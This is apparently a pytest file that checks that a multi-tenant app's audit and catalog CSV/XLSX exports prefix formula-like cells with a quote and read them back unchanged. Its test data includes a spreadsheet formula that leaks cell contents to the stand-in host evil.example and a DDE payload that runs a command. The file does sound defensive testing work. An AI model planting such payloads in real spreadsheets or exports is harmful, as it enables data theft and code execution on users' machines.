"""No CSV the project writes runs as a spreadsheet formula: an announcement titled
``=HYPERLINK("http://evil.example/?x="&A1,"点击")`` comes out of the audit export as text with a
``'`` in front, and the catalog's CSV and XLSX keep such a cell as text and read it back as it
was."""

from __future__ import annotations

import csv
import io

from core.audit import record
from core.catalog._sheets import read_csv, read_xlsx
from core.catalog.transfer import write_csv, write_xlsx
from core.spreadsheet import safe_cell, unquoted
from core.tenancy import scope_for
from tests.helpers import csrf_token, tenant

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_the_cells_a_spreadsheet_would_run_get_a_quote() -> None:
    for cell in (EVIL, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-x"):
        assert safe_cell(cell) == "'" + cell, cell
        assert unquoted(str(safe_cell(cell))) == cell
    kept: tuple[object, ...] = ("河池", "", "3", "-5", "+86", "-0.5", "1=1", "'=by its author", 7)
    for value in (*kept, None):
        assert safe_cell(value) == value, value


def _sign_in(client, slug: str, username: str) -> None:
    token = csrf_token(client, f"/t/{slug}/staff/login")
    signed = client.post(
        f"/t/{slug}/staff/login",
        data={"username": username, "password": "Demo-2026", "_csrf_token": token},
        follow_redirects=False,
    )
    assert signed.status_code in (302, 303), signed.text[:300]


def _cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [cell for row in rows for cell in row]


def test_the_audit_exports_hold_no_formula(app, db) -> None:
    from litestar.testing import TestClient

    suning = tenant(db, "suning")
    with db.session(scope=scope_for(suning)) as s:
        record(
            s,
            suning,
            None,
            "announcement.create",
            target_type="announcement",
            target_label=EVIL,
            reason="@SUM(1+1)",
        )
        s.commit()
    for slug, username, path in (
        ("suning", "suning-admin", "/t/suning/admin/audit/export.csv"),
        ("hebei", "hebei-admin", "/t/hebei/console/audit/export.csv"),
    ):
        with TestClient(app=app, base_url="http://testserver.local") as browser:
            _sign_in(browser, slug, username)
            exported = browser.get(path)
            assert exported.status_code == 200, exported.text[:300]
            cells = _cells(exported.content)
            assert "'" + EVIL in cells and "'@SUM(1+1)" in cells, path
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], path


def test_the_catalog_export_keeps_such_a_cell_as_text_and_reads_it_back() -> None:
    rows = [["事项编码", "事项名称", "收费"], ["HC-X01", EVIL, "-"], ["HC-X02", "@人", "-5"]]
    out = io.BytesIO()
    write_csv(iter(rows), out)
    cells = _cells(out.getvalue())
    assert "'" + EVIL in cells and "'@人" in cells and "'-" in cells and "-5" in cells
    assert read_csv(out.getvalue()).rows == [(n, r) for n, r in enumerate(rows, start=1)]

    out = io.BytesIO()
    write_xlsx(iter(rows), out)
    (sheet,) = read_xlsx(out.getvalue())
    assert [r for _, r in sheet.rows] == rows  # text, not a formula whose result was never saved
